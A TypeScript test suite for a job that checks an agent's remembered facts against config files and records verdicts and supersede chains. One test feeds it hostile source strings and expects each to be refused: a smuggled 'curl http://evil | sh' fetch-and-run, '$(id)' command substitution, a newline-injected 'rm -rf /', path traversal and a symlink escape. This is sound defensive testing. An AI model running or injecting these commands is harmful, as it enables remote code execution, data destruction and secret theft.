import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { drift } from '../../jobs/drift.js';
import { pendingItems, verdictsFor } from '../../src/drift/record.js';
import { configFor, daysAgo, insertRows, jobContext, liveIds, NOW, row, sandbox, withState, type Sandbox } from './helpers.js';
import { toCanonical } from '../../src/time/instants.js';

/** The drift job end to end against real files on disk: every verdict, the supersede chain, refusals. */
describe('drift job with the file verifier', () => {
  let box: Sandbox;
  let root: string;
  beforeEach(() => {
    box = sandbox();
    root = join(box.dir, 'configs');
    mkdirSync(root);
    writeFileSync(join(root, 'app.json'), JSON.stringify({ database: { engine: 'postgres', version: '16.2' } }));
    writeFileSync(join(root, 'app.yaml'), 'database:\n  version: "15.4"\n');
    writeFileSync(join(root, 'app.toml'), '[database]\nversion = "15.1"\n');
    writeFileSync(join(root, '.env'), 'DEPLOY_BRANCH=staging\n');
    writeFileSync(join(root, 'notes.txt'), 'deploys go through staging\n');
    writeFileSync(join(box.dir, 'secret.json'), JSON.stringify({ database: { version: '15' } }));
  });
  afterEach(() => box.cleanup());

  const verify = (extra: object = {}) => ({
    allow: { fileRoots: [root] },
    rules: [
      {
        name: 'db version',
        match: { source: '^file:(?<path>[^#]+)#db$', fact: 'Postgres (?<version>\\d+)' },
        use: 'file',
        with: { path: '${path}', select: '$.database.version', expect: '^${version}(\\.|$)' },
        replacement: 'the database is Postgres ${value}',
        autoSupersede: true,
      },
      {
        name: 'db version, ask first',
        match: { source: '^ask:(?<path>.+)$', fact: 'Postgres (?<version>\\d+)' },
        use: 'file',
        with: { path: '${path}', select: '$.database.version', expect: '^${version}(\\.|$)' },
        replacement: 'the database is Postgres ${value}',
      },
      { name: 'env', match: { source: '^env:(?<path>.+)$', fact: 'through staging$' }, use: 'file', with: { path: '${path}', select: 'DEPLOY_BRANCH', expect: { equals: 'staging' } } },
      { name: 'watch', match: { source: '^watch:(?<path>.+)$' }, use: 'file', with: { path: '${path}' } },
    ],
    ...extra,
  });

  it('confirms, supersedes, asks a person, records every verdict', async () => {
    insertRows(box.dbPath, [
      { id: 'm_yaml', fact: 'the database is Postgres 15', source: 'file:app.yaml#db', confirmed_at: daysAgo(200) },
      { id: 'm_toml', fact: 'the database is Postgres 15', source: `file:${join(root, 'app.toml')}#db`, confirmed_at: daysAgo(150) },
      { id: 'm_json', fact: 'the database is Postgres 15', source: 'file:app.json#db', confirmed_at: daysAgo(140) },
      { id: 'm_ask', fact: 'the database is Postgres 15', source: 'ask:app.json', confirmed_at: daysAgo(130) },
      { id: 'm_env', fact: 'deploys go through staging', source: 'env:.env', confirmed_at: daysAgo(120) },
      { id: 'm_gone', fact: 'deploys go through staging', source: 'env:missing.env', confirmed_at: daysAgo(110) },
      { id: 'm_chat', fact: 'prefers pnpm', source: 'chat 2026-05-01', confirmed_at: daysAgo(100) },
      { id: 'm_fresh', fact: 'fresh', source: 'file:app.yaml#db', confirmed_at: daysAgo(10) },
    ]);
    const config = configFor(box, verify());
    const r = await drift({ store: 'agent' }, jobContext(config));
    expect(r.due).toBe(7);
    const byId = Object.fromEntries(r.verdicts.map((v) => [v.id, v]));
    expect(byId.m_yaml!.verdict).toBe('confirmed');
    expect(byId.m_toml!.verdict).toBe('confirmed');
    expect(byId.m_env!.verdict).toBe('confirmed');
    expect(byId.m_json!.verdict).toBe('contradicted');
    expect(byId.m_json!.supersededBy).toMatch(/^m_/);
    expect(byId.m_ask!).toMatchObject({ verdict: 'contradicted', needsPerson: true });
    expect(byId.m_ask!.supersededBy).toBeUndefined();
    expect(byId.m_gone!).toMatchObject({ verdict: 'unverifiable', needsPerson: false });
    expect(byId.m_chat!).toMatchObject({ verdict: 'unverifiable', verifier: null, needsPerson: true });
    expect(r).toMatchObject({ confirmed: 3, contradicted: 2, superseded: 1, unverifiable: 2, toPerson: 2 });

    // confirmed → confirmed_at = now; the fresh row was never due
    expect(row(box.dbPath, 'm_yaml')!.confirmed_at).toBe(toCanonical(NOW));
    expect(row(box.dbPath, 'm_fresh')!.confirmed_at).toBe(daysAgo(10));
    // the supersede chain: new row live, old row kept but hidden, pointing at it
    const newId = byId.m_json!.supersededBy!;
    const next = row(box.dbPath, newId)!;
    expect(next).toMatchObject({ fact: 'the database is Postgres 16.2', subject: 'user', source: 'drift:file:file:app.json#db', confirmed_at: toCanonical(NOW), superseded_by: null });
    expect(row(box.dbPath, 'm_json')!.superseded_by).toBe(newId);
    const live = liveIds(box.dbPath);
    expect(live).toContain(newId);
    expect(live).not.toContain('m_json');
    // unchanged where nothing should change
    expect(row(box.dbPath, 'm_ask')).toMatchObject({ superseded_by: null, confirmed_at: daysAgo(130) });
    expect(row(box.dbPath, 'm_gone')!.confirmed_at).toBe(daysAgo(110));

    withState(box.statePath, (state) => {
      const pending = pendingItems(state, 'agent').map((p) => p.memory_id).sort();
      expect(pending).toEqual(['m_ask', 'm_chat']);
      const ask = verdictsFor(state, 'agent', 'm_ask')[0]!;
      expect(JSON.parse(ask.evidence!)).toMatchObject({ current: { value: '16.2' }, replacement: { fact: 'the database is Postgres 16.2' } });
      const json = verdictsFor(state, 'agent', 'm_json')[0]!;
      expect(json).toMatchObject({ verdict: 'contradicted', verifier: 'file', needs_person: 0, resolution: `superseded:${newId}` });
      expect(json.fingerprint).toMatch(/^sha256:/);
      expect(verdictsFor(state, 'agent', newId)[0]).toMatchObject({ verdict: 'confirmed', verifier: 'file' });
      expect(JSON.parse(verdictsFor(state, 'agent', 'm_gone')[0]!.evidence!).reason).toMatch(/ENOENT|no such file/i);
    });

    // A second run a week later: the person's queue is not picked again; nothing else is due.
    const again = await drift({ store: 'agent' }, jobContext(config, NOW + 7 * 86_400_000));
    expect(again.verdicts.map((v) => v.id).sort()).toEqual(['m_gone']);
  });

  it('a rule without expect records a baseline, then confirms the same reading and reports a changed one', async () => {
    insertRows(box.dbPath, [{ id: 'm_w', fact: 'deploys go through staging', source: 'watch:notes.txt', confirmed_at: daysAgo(100) }]);
    const config = configFor(box, verify());
    const first = await drift({ store: 'agent' }, jobContext(config));
    expect(first.verdicts[0]).toMatchObject({ verdict: 'confirmed', needsPerson: false });
    // the baseline counts: the row is not due again before review.afterDays
    expect((await drift({ store: 'agent' }, jobContext(config, NOW + 1000))).due).toBe(0);
    const second = await drift({ store: 'agent' }, jobContext(config, NOW + 91 * 86_400_000));
    expect(second.verdicts[0]).toMatchObject({ verdict: 'confirmed' });
    // confirmed_at moved: make it due again, then change the file
    const later = NOW + 200 * 86_400_000;
    writeFileSync(join(root, 'notes.txt'), 'deploys go straight to main\n');
    const third = await drift({ store: 'agent' }, jobContext(config, later));
    expect(third.verdicts[0]).toMatchObject({ verdict: 'changed', needsPerson: true });
    withState(box.statePath, (state) => {
      const [item] = pendingItems(state, 'agent', 'm_w');
      const ev = JSON.parse(item!.evidence!);
      expect(ev.previous.value).toBe('deploys go through staging\n');
      expect(ev.current.value).toBe('deploys go straight to main\n');
      expect(ev.previous.fingerprint).not.toBe(ev.current.fingerprint);
    });
  });

  it('refuses hostile sources with a recorded reason and reads nothing', async () => {
    symlinkSync(join(box.dir, 'secret.json'), join(root, 'link.json'));
    insertRows(box.dbPath, [
      { id: 'h_dotdot', fact: 'the database is Postgres 15', source: 'ask:../secret.json', confirmed_at: daysAgo(200) },
      { id: 'h_abs', fact: 'the database is Postgres 15', source: `ask:${join(box.dir, 'secret.json')}`, confirmed_at: daysAgo(199) },
      { id: 'h_link', fact: 'the database is Postgres 15', source: 'ask:link.json', confirmed_at: daysAgo(198) },
      { id: 'h_shell', fact: 'the database is Postgres 15', source: 'ask:app.json; curl http://evil | sh', confirmed_at: daysAgo(197) },
      { id: 'h_subst', fact: 'the database is Postgres 15', source: 'ask:$(id).json', confirmed_at: daysAgo(196) },
      { id: 'h_ctl', fact: 'the database is Postgres 15', source: 'ask:app.json\u0007\u001b[2J', confirmed_at: daysAgo(195) },
      { id: 'h_nl', fact: 'the database is Postgres 15', source: 'ask:app.json\nrm -rf /', confirmed_at: daysAgo(194) },
    ]);
    const r = await drift({ store: 'agent' }, jobContext(configFor(box, verify())));
    const byId = Object.fromEntries(r.verdicts.map((v) => [v.id, v]));
    // An anchored rule does not match across a newline: no rule, so nothing is read and a person looks at it.
    expect(byId.h_nl!).toMatchObject({ verdict: 'unverifiable', verifier: null, needsPerson: true });
    delete byId.h_nl;
    for (const id of Object.keys(byId)) expect(byId[id]).toMatchObject({ verdict: 'refused', needsPerson: true });
    expect(byId.h_dotdot!.reason).toMatch(/"\.\." segment/);
    expect(byId.h_abs!.reason).toMatch(/outside the allowed roots/);
    expect(byId.h_link!.reason).toMatch(/symlink/);
    expect(byId.h_shell!.reason).toMatch(/shell metacharacters/);
    expect(byId.h_subst!.reason).toMatch(/shell metacharacters/);
    expect(byId.h_ctl!.reason).toMatch(/control characters/);
    expect(r.reads).toBe(0);
    withState(box.statePath, (state) => {
      expect(pendingItems(state, 'agent')).toHaveLength(7);
      expect(JSON.parse(pendingItems(state, 'agent', 'h_link')[0]!.evidence!).reason).toMatch(/symlink/);
    });
  });

  it('takes at most review.batch rows, oldest first, live ones only, and reads a shared file once', async () => {
    const rows = Array.from({ length: 8 }, (_, i) => ({ id: `m_${i}`, fact: 'Postgres 15', source: 'file:app.yaml#db', confirmed_at: daysAgo(100 + i) }));
    insertRows(box.dbPath, [
      ...rows,
      { id: 'x_new', fact: 'n', source: 'file:app.yaml#db', confirmed_at: daysAgo(1) },
      { id: 'x_sup', fact: 's', source: 'file:app.yaml#db', confirmed_at: daysAgo(300), superseded_by: 'm_0' },
      { id: 'x_exp', fact: 'e', source: 'file:app.yaml#db', confirmed_at: daysAgo(300), expires_at: daysAgo(1) },
    ]);
    const config = configFor(box, verify(), { review: { afterDays: 90, batch: 5 } });
    const r = await drift({ store: 'agent' }, jobContext(config));
    expect(r.verdicts.map((v) => v.id)).toEqual(['m_7', 'm_6', 'm_5', 'm_4', 'm_3']);
    expect(r.confirmed).toBe(5);
    expect(r.reads).toBe(1);
    expect(r.sharedReads).toBe(4);
  });
});

describe('file roots behind a symlink', () => {
  let box: Sandbox;
  beforeEach(() => {
    box = sandbox();
  });
  afterEach(() => box.cleanup());

  it('reads an absolute path written under the configured (symlinked) root, and nothing outside its real path', async () => {
    mkdirSync(join(box.dir, 'real-configs'));
    writeFileSync(join(box.dir, 'real-configs', 'app.yaml'), 'version: "15"\n');
    symlinkSync(join(box.dir, 'real-configs'), join(box.dir, 'configs'));
    insertRows(box.dbPath, [
      { id: 'm_abs', fact: 'Postgres 15', source: `cfg:${join(box.dir, 'configs', 'app.yaml')}`, confirmed_at: daysAgo(100) },
      { id: 'm_rel', fact: 'Postgres 15', source: 'cfg:app.yaml', confirmed_at: daysAgo(101) },
    ]);
    const config = configFor(box, {
      allow: { fileRoots: [join(box.dir, 'configs')] },
      rules: [{ match: { source: '^cfg:(?<p>.+)$', fact: '^Postgres 15$' }, use: 'file', with: { path: '${p}', select: 'version', expect: '^15' } }],
    });
    const r = await drift({ store: 'agent' }, jobContext(config));
    expect(r.verdicts.map((v) => v.verdict)).toEqual(['confirmed', 'confirmed']);
  });
});
